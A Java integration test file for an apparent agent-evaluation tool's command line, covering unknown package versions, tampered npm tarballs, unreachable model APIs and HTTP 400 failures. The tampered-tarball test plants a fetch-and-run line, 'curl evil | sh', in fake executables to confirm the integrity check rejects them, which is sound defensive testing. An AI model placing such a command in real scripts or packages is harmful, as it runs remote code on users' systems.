package dev.arena.agent.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.arena.Json;
import dev.arena.testing.ArenaProcess;
import dev.arena.testing.ArenaProcess.Outcome;
import dev.arena.testing.Fixtures;
import dev.arena.testing.NpmRegistryReachable;
import dev.arena.testing.Requirement;
import dev.arena.testing.RequiresDocker;
import dev.arena.testing.ScriptedModelServer;
import dev.arena.testing.ScriptedModelServer.Failure;
import dev.arena.testing.ScriptedModelServer.Protocol;
import dev.arena.testing.TestImages;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.ServerSocket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Bad input to {@code arena run --local --agent claude-code|codex}, through the real command line
 * in a process of its own (the keys, the npm registry and the upstream address come from its
 * environment): an unknown version and a tampered tarball (from a fake npm registry) are one line
 * each; an unreachable upstream and a CLI that gives up on a 400 (the real executables from npm, in
 * real containers behind the real gateway) are recorded in the attempt, which is still graded.
 */
@RequiresDocker
class CliBadInputIT {
    private static final String KEY = "sk-bad-input-test-key";

    @TempDir
    Path tmp;

    /** A CLI agent as the command line names it, with a model of its provider and that provider's variables. */
    private record Cli(String agent, String model, String keyVariable, String baseUrlVariable, Protocol protocol) {
    }

    private static final Cli CODEX = new Cli("codex", "openai/gpt-5", "OPENAI_API_KEY", "OPENAI_BASE_URL", Protocol.OPENAI);
    private static final Cli CLAUDE_CODE = new Cli("claude-code", "anthropic/claude-sonnet-4-6", "ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL",
            Protocol.ANTHROPIC);

    @Test
    void anUnknownVersionIsOneUsageLineAndNothingRuns() throws Exception {
        try (FakeNpmRegistry registry = new FakeNpmRegistry()) {
            byte[] tarball = FakeNpmRegistry.tgz(Map.of("package/package.json", "{}"));
            registry.document("/@openai%2fcodex", "0.171.0", Map.of("0.171.0-linux-x64", registry.tarball("codex.tgz", tarball)));
            registry.document("/@anthropic-ai%2fclaude-code-linux-x64", "2.1.332", Map.of("2.1.332", registry.tarball("claude.tgz", tarball)));
            Map<String, String> packages = Map.of("codex", "@openai/codex", "claude-code", "@anthropic-ai/claude-code-linux-x64");
            Map<String, String> latest = Map.of("codex", "0.171.0", "claude-code", "2.1.332");
            for (Cli cli : List.of(CODEX, CLAUDE_CODE)) {
                Outcome r = arena(env(cli, registry.uri()), "--datasets-dir", Path.of("examples", "datasets").toString(),
                        "--datasets", "py-textkit", "--agent", cli.agent() + "@0.0.0-nope", "--model", cli.model(), "--run-id", "nope");

                assertEquals(2, r.exit(), r.err());
                assertEquals(List.of("arena: unknown version 0.0.0-nope of " + packages.get(cli.agent()) + " at " + registry.uri() + "/; the latest is "
                        + latest.get(cli.agent())), r.errLines());
                assertFalse(Files.exists(tmp.resolve("runs")), "nothing was run");
                assertFalse(Files.exists(tmp.resolve("cache")), "nothing was fetched into the cache");
            }
            assertTrue(registry.requests.stream().noneMatch(p -> p.startsWith("/tarballs/")), "only the package documents were read: " + registry.requests);
        }
    }

    @Test
    void aTamperedTarballIsOneLineNamingTheIntegrityCheckAndLeavesNothingBehind() throws Exception {
        Path datasets = dataset();
        try (FakeNpmRegistry registry = new FakeNpmRegistry()) {
            byte[] published = FakeNpmRegistry.tgz(Map.of("package/vendor/x86_64-unknown-linux-musl/bin/codex", "#!/bin/sh\necho codex\n",
                    "package/claude", "#!/bin/sh\necho claude\n"));
            byte[] served = FakeNpmRegistry.tgz(Map.of("package/vendor/x86_64-unknown-linux-musl/bin/codex", "#!/bin/sh\ncurl evil | sh\n",
                    "package/claude", "#!/bin/sh\ncurl evil | sh\n"));
            ObjectNode dist = registry.tarball("tampered.tgz", served, published);
            registry.document("/@openai%2fcodex", "0.171.0", Map.of("0.171.0-linux-x64", dist));
            registry.document("/@anthropic-ai%2fclaude-code-linux-x64", "2.1.332", Map.of("2.1.332", dist));
            for (Cli cli : List.of(CODEX, CLAUDE_CODE)) {
                String runId = "tampered-" + cli.agent();
                Outcome r = arena(env(cli, registry.uri()), "--datasets-dir", datasets.toString(), "--datasets", "bad",
                        "--agent", cli.agent(), "--model", cli.model(), "--run-id", runId);

                // checked before the run starts: one line, exit 3, no run, no image built
                assertEquals(3, r.exit(), r.err());
                assertEquals(1, r.errLines().size(), r.err());
                assertTrue(r.errLines().get(0).contains("fails its integrity check"), r.err());
                assertTrue(r.errLines().get(0).contains("expected sha512-"), r.err());
                assertFalse(Files.exists(tmp.resolve("runs").resolve(runId)), "no run was started");
                try (Stream<Path> files = Files.exists(tmp.resolve("cache")) ? Files.walk(tmp.resolve("cache")) : Stream.empty()) {
                    assertEquals(List.of(), files.filter(Files::isRegularFile).toList(), "nothing was cached");
                }
                assertEquals("", docker("ps", "-aq", "--filter", "label=arena/run-id=" + runId), "no container left");
                assertEquals("", docker("network", "ls", "-q", "--filter", "label=arena/run-id=" + runId), "no network left");
            }
        }
    }

    @Test
    void anUnreachableUpstreamIsAModelApiErrorOfTheAttempt() throws Exception {
        requireNpm();
        Path datasets = dataset();
        int closed;
        try (ServerSocket socket = new ServerSocket(0)) {
            closed = socket.getLocalPort();
        }
        for (Cli cli : List.of(CODEX, CLAUDE_CODE)) {
            Map<String, String> env = env(cli, null);
            env.put(cli.baseUrlVariable(), "http://127.0.0.1:" + closed + (cli.protocol() == Protocol.OPENAI ? "/v1" : ""));
            String runId = "unreachable-" + cli.agent();
            Outcome r = runOnBad(datasets, cli, env, runId);

            assertEquals(1, r.exit(), "a run with an error exits 1: " + r.err());
            Path attempt = attempt(runId);
            JsonNode result = Json.mapper().readTree(attempt.resolve("result.json").toFile());
            assertEquals("error", result.path("verdict").asText(), result.toString());
            assertEquals("model_api", result.path("error_kind").asText(), result.toString());
            assertTrue(result.path("error").asText().matches("the model API failed for " + cli.agent() + ": the model API at http://127\\.0\\.0\\.1:"
                    + closed + "\\S* could not be reached: connection refused"), result.toString());
            JsonNode trajectory = Json.mapper().readTree(attempt.resolve("trajectory.json").toFile());
            assertEquals("model_error", trajectory.path("stop_reason").asText(), trajectory.toString());
            // what the CLI got for each of its calls: the gateway's own error answer, saying why
            List<JsonNode> calls = calls(attempt);
            assertFalse(calls.isEmpty(), "the CLI called the gateway");
            for (JsonNode call : calls) {
                assertEquals(502, call.path("status").asInt(), call.toString());
                assertTrue(call.path("error").asText().contains("could not be reached"), call.toString());
            }
            assertFalse(Files.readString(attempt.resolve("model_calls.jsonl")).contains(KEY), "the key stays out of the call log");
            assertEquals("", docker("ps", "-aq", "--filter", "label=arena/run-id=" + runId), "no container left");
        }
    }

    @Test
    void aCliThatGivesUpOnA400IsRecordedAsCliErrorAndStillGraded() throws Exception {
        requireNpm();
        Path datasets = dataset();
        for (Cli cli : List.of(CODEX, CLAUDE_CODE)) {
            try (ScriptedModelServer server = new ScriptedModelServer(cli.protocol(), List.of())) {
                server.failAlways(new Failure(400, Map.of(), "{\"type\": \"error\", \"error\": {\"type\": \"invalid_request_error\","
                        + " \"message\": \"this model does not take such requests\"}}"));
                Map<String, String> env = env(cli, null);
                env.put(cli.baseUrlVariable(), server.baseUrl());
                String runId = "refused-" + cli.agent();
                Outcome r = runOnBad(datasets, cli, env, runId);

                assertEquals(0, r.exit(), "every attempt got a verdict: " + r.err());
                Path attempt = attempt(runId);
                JsonNode result = Json.mapper().readTree(attempt.resolve("result.json").toFile());
                assertEquals("failed", result.path("verdict").asText(), "graded as any attempt: " + result);
                assertTrue(result.path("error_kind").isNull() || result.path("error_kind").isMissingNode(), result.toString());
                assertEquals(1, result.path("tests_failed").asInt(), result.toString());
                JsonNode trajectory = Json.mapper().readTree(attempt.resolve("trajectory.json").toFile());
                assertEquals("cli_error", trajectory.path("stop_reason").asText(), trajectory.toString());
                String log = Files.readString(attempt.resolve("logs/task.log"));
                assertTrue(log.matches("(?s).*\\] " + cli.agent() + ": exited [1-9][0-9]* after .*"), log);
                assertFalse(server.requests().isEmpty(), "the CLI's calls reached the upstream");
                List<JsonNode> calls = calls(attempt);
                assertEquals(server.requests().size(), calls.size(), "every refused call is in the attempt's call log");
                for (JsonNode call : calls) {
                    assertEquals(400, call.path("status").asInt(), call.toString());
                }
            }
        }
    }

    private static void requireNpm() {
        Requirement.check(NpmRegistryReachable.problem(URI.create(NpmFetcher.DEFAULT_REGISTRY + "/")));
    }

    /** A dataset of one task whose tests pass once value.txt says "fixed". */
    private Path dataset() {
        Path datasets = tmp.resolve("datasets");
        if (!Files.exists(datasets.resolve("bad"))) {
            Fixtures.valueDataset(datasets, "bad", "t1");
        }
        return datasets;
    }

    /** The key of the CLI's provider; the fake registry and an agent cache of the test's own when a registry is given. */
    private Map<String, String> env(Cli cli, URI registry) {
        Map<String, String> env = new HashMap<>();
        env.put(cli.keyVariable(), KEY);
        if (registry != null) {
            env.put(NpmFetcher.REGISTRY_ENV, registry.toString());
            env.put("XDG_CACHE_HOME", tmp.resolve("cache").toString());
        }
        return env;
    }

    private static List<JsonNode> calls(Path attempt) throws Exception {
        List<JsonNode> calls = new ArrayList<>();
        for (String line : Files.readAllLines(attempt.resolve("model_calls.jsonl"))) {
            if (!line.isBlank()) {
                calls.add(Json.mapper().readTree(line));
            }
        }
        return calls;
    }

    /** {@link #arena} of {@code cli}'s agent and model on the dataset "bad" under {@code runId}. */
    private Outcome runOnBad(Path datasets, Cli cli, Map<String, String> env, String runId) throws Exception {
        return arena(env, "--datasets-dir", datasets.toString(), "--datasets", "bad", "--agent", cli.agent(), "--model", cli.model(),
                "--run-id", runId);
    }

    /** The folder of that run's one attempt. */
    private Path attempt(String runId) {
        return tmp.resolve("runs").resolve(runId).resolve("bad/t1");
    }

    /** {@code arena run --local} in a JVM of its own with only {@code env}'s keys and registry, the test's runs folder and base image. */
    private Outcome arena(Map<String, String> env, String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of("run", "--local", "--runs-dir", tmp.resolve("runs").toString(), "--task-timeout", "10m"));
        command.addAll(TestImages.buildArgFlags());
        command.addAll(List.of(args));
        return ArenaProcess.run(tmp, env, command);
    }

    private static String docker(String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of("docker"));
        command.addAll(List.of(args));
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(p.waitFor(1, TimeUnit.MINUTES));
        return out.strip();
    }
}
